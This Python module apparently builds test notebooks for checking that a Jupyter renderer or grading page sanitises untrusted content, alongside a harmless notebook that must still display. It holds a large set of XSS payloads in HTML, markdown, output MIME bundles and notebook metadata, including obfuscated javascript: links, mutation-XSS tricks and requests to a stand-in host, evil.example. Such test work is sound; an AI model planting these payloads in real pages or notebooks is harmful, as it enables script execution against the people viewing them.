"""Ways to make a notebook act in the page that shows it, and things that a page must go on showing.

Each attack sets `window.pwned_NAME` or asks for `http://evil.example/NAME`, at once or on a click.
"""

from __future__ import annotations

import base64
from typing import Any

from nbformat import NotebookNode, from_dict
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

EVIL = "http://evil.example"
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
CIRCLE = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><circle cx="20" cy="20" r="15"/></svg>'
)
WIDGET = "0123456789abcdef0123456789abcdef"


def _set(name: str) -> str:
    return f"window.pwned_{name}=1"


def _in_html() -> dict[str, str]:
    return {
        "script": f"<script>{_set('script')}</script>",
        "onerror": f'<img src=x onerror="{_set("onerror")}">',
        "svg_onload": f'<svg onload="{_set("svg_onload")}"></svg>',
        "srcdoc": '<iframe srcdoc="<script>parent.pwned_srcdoc=1</script>"></iframe>',
        "iframe_url": '<iframe src="javascript:parent.pwned_iframe_url=1"></iframe>',
        "toggle": f'<details open ontoggle="{_set("toggle")}"><summary>s</summary>d</details>',
        "animation": (
            "<style>@keyframes pulse{from{opacity:0}to{opacity:1}}</style>"
            f'<b style="animation:pulse 1s" onanimationstart="{_set("animation")}">b</b>'
        ),
        "focus": f'<input autofocus onfocus="{_set("focus")}">',
        "video": f'<video><source onerror="{_set("video")}" src=x></video>',
        "refresh": f'<meta http-equiv="refresh" content="9;url={EVIL}/refresh">',
        "sheet": f'<link rel="stylesheet" href="{EVIL}/sheet">',
        "imported": f'<style>@import url("{EVIL}/imported");</style>',
        "background": f"<div style=\"background:url('{EVIL}/background')\">d</div>",
        "cursor": f"<div style=\"list-style:url('{EVIL}/cursor');display:list-item\">d</div>",
        "picture": f'<img src="{EVIL}/picture">',
        "srcset": f'<img srcset="{EVIL}/srcset 1x">',
        "poster": f'<video poster="{EVIL}/poster"></video>',
        "embed": f'<embed src="{EVIL}/embed">',
        "object": f'<object data="{EVIL}/object"></object>',
        "frame": f'<iframe src="{EVIL}/frame"></iframe>',
        "field": f'<input type="image" src="{EVIL}/field">',
        "form": f'<form action="{EVIL}/form"><button>press</button></form>',
        "mutation": (
            "<math><mtext><table><mglyph><style><!--</style>"
            f'<img title="--&gt;&lt;img src=1 onerror={_set("mutation")}&gt;">'
        ),
        "noscript": f'<noscript><p title="</noscript><img src=x onerror={_set("noscript")}>"></noscript>',
        "unclosed": f"<img src=x onerror={_set('unclosed')} ",
        "table": (
            '<table border="1" class="dataframe"><tr onclick=1>'
            f"<td><img src=x onerror={_set('table')}></td></tr></table>"
        ),
        "breakout": f"</div></div></div></div></div><img src=x onerror={_set('breakout')}>",
        "link": f'<a href="javascript:{_set("link")}">link</a>',
        "entity": f'<a href="&#106;avascript:{_set("entity")}">entity</a>',
        "tab": f'<a href="java\tscript:{_set("tab")}">tab</a>',
        "prefix": f'<a href="files/javascript:{_set("prefix")}">prefix</a>',
        "data": f'<a href="data:text/html,<script>{_set("data")}</script>">data</a>',
    }


def _in_markdown() -> dict[str, str]:
    return {
        "md_link": f"[md_link](javascript:{_set('md_link')})",
        "md_entity": f"[md_entity](&#x6A;avascript:{_set('md_entity')})",
        "md_reference": f"[md_reference][1]\n\n[1]: javascript:{_set('md_reference')}",
        "md_autolink": f"<javascript:{_set('md_autolink')}>",
        "md_remote": f"![remote]({EVIL}/md_remote)",
        "md_protocol": '<img src="files//evil.example/md_protocol">',
        "md_page": "[md_page](evil.html)",
        "md_alt": f'![x" onerror="{_set("md_alt")}](x.png)',
        "md_title": f"![x](x.png 'a\" onerror=\"{_set('md_title')}')",
        "md_formula": f"$<img src=x onerror={_set('md_formula')}>$",
        "md_display": f"$$\n<script>{_set('md_display')}</script>\n$$",
        "md_mermaid": f"```mermaid\n</pre><script>{_set('md_mermaid')}</script>\n```",
        "md_fence": f'```x"><script>{_set("md_fence")}</script>\ntext\n```',
        "md_heading": f"# <img src=x onerror={_set('md_heading')}>",
    }


def _outputs() -> dict[str, tuple[dict[str, Any], dict[str, Any]]]:
    """MIME bundles and their metadata."""
    script = f"<script>{_set('%s')}</script>"
    drawn = CIRCLE.replace("<circle", f"<script>{_set('out_svg')}</script><circle onload='{_set('out_svg')}'")
    return {
        "out_js": ({"application/javascript": _set("out_js")}, {}),
        "out_svg": ({"image/svg+xml": drawn}, {}),
        "out_latex": ({"text/latex": script % "out_latex"}, {}),
        "out_markdown": ({"text/markdown": script % "out_markdown"}, {}),
        "out_plain": ({"text/plain": script % "out_plain"}, {}),
        "out_pdf": ({"application/pdf": script % "out_pdf", "text/plain": "pdf"}, {}),
        "out_width": ({"image/png": "x"}, {"image/png": {"width": f"1 onerror={_set('out_width')}"}}),
        "out_png": ({"image/png": f'x" onerror="{_set("out_png")}'}, {}),
        "out_file": ({"image/png": PIXEL}, {"filenames": {"image/png": f"{EVIL}/out_file"}}),
        "out_isolated": (
            {"text/html": f'<img src="{EVIL}/out_isolated">'},
            {"text/html": {"isolated": True}},
        ),
        "out_widget": (
            {"application/vnd.jupyter.widget-view+json": {"model_id": WIDGET, "version_major": 2}},
            {},
        ),
    }


def names() -> set[str]:
    others = {"stream", "error", "raw", "source", "attachment", "tags", "title", "lexer"}
    return {*_in_html(), *_in_markdown(), *_outputs(), *others}


def attacked_as_run() -> list[NotebookNode]:
    """Cells that attack when they have been run."""
    bundles = {name: ({"text/html": text, "text/plain": "<X>"}, {}) for name, text in _in_html().items()}
    shown = [
        f"display({data!r}, metadata={metadata!r}, raw=True)"
        for data, metadata in {**bundles, **_outputs()}.values()
    ]
    return [
        new_code_cell("from IPython.display import display\n" + "\n".join(shown)),
        new_code_cell(f'print("<script>{_set("stream")}</script>")'),
        new_code_cell(f'raise ValueError("<script>{_set("error")}</script>")'),
        *_unrun(),
    ]


def attacked_as_written() -> list[NotebookNode]:
    """The same cells with outputs that no grader has looked at."""
    bundles = {name: ({"text/html": text, "text/plain": "<X>"}, {}) for name, text in _in_html().items()}
    outputs = [
        from_dict({"output_type": "display_data", "data": data, "metadata": metadata})
        for data, metadata in {**bundles, **_outputs()}.values()
    ]
    trap = f"<script>{_set('error')}</script>"
    return [
        new_code_cell("", outputs=outputs),
        new_code_cell("", outputs=[new_output("stream", text=f"<script>{_set('stream')}</script>")]),
        new_code_cell("", outputs=[new_output("error", ename=trap, evalue=trap, traceback=[trap])]),
        *_unrun(),
    ]


def _unrun() -> list[NotebookNode]:
    texts = {**_in_html(), **_in_markdown()}
    attached = {"x.png": {f'image/png" onerror="{_set("attachment")}': PIXEL}}
    return [
        *(new_markdown_cell(text) for text in texts.values()),
        new_markdown_cell("![x](attachment:x.png)", attachments=attached),
        new_raw_cell(f"<script>{_set('raw')}</script>", metadata={"raw_mimetype": "text/html"}),
        new_code_cell(
            f"# </pre><script>{_set('source')}</script>",
            metadata={"tags": [f'x"><script>{_set("tags")}</script>']},
        ),
    ]


def metadata() -> dict[str, Any]:
    """Notebook metadata that attacks."""
    state = {"model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls", "state": {"value": "x"}}
    return {
        "title": f"</title><script>{_set('title')}</script>",
        "language_info": {"name": "python", "pygments_lexer": f"'\"><script>{_set('lexer')}</script>"},
        "widgets": {
            "application/vnd.jupyter.widget-state+json": {"version_major": 2, "state": {WIDGET: state}}
        },
    }


def harmless() -> list[NotebookNode]:
    """What an honest learner shows; needs the file `own.png` in the notebook's folder."""
    return [
        new_markdown_cell(
            "## Benign heading\n\nBenign *words*, a [benign link](https://docs.example/page), `benign_code`,"
            " $\\alpha_{benign} < \\beta$.\n\n| Benign | Table |\n|---|---|\n| left | right |\n\n"
            "```python\ndef benign_fenced(): pass\n```\n\n"
            "<details><summary>Benign fold</summary>in it</details>\n\n"
            f"![own](own.png) ![attached](attachment:a.png)"
            f" <img alt='inline' src='data:image/png;base64,{PIXEL}'>",
            attachments={"a.png": {"image/png": PIXEL}},
        ),
        new_code_cell("import pandas\npandas.DataFrame({'benign_column': [1.5, 2.5]})"),
        new_code_cell(f"display({{'image/png': {PIXEL!r}, 'text/plain': 'x'}}, raw=True)"),
        new_code_cell(f"display({{'image/svg+xml': {CIRCLE!r}, 'text/plain': 'x'}}, raw=True)"),
        new_code_cell("display({'text/latex': '$\\\\gamma_{benign}$', 'text/plain': 'x'}, raw=True)"),
        new_code_cell("print('benign print: 1 < 2 & 3')"),
        new_code_cell("1 / 0  # benign mistake"),
    ]


def own_picture() -> bytes:
    return base64.b64decode(PIXEL)
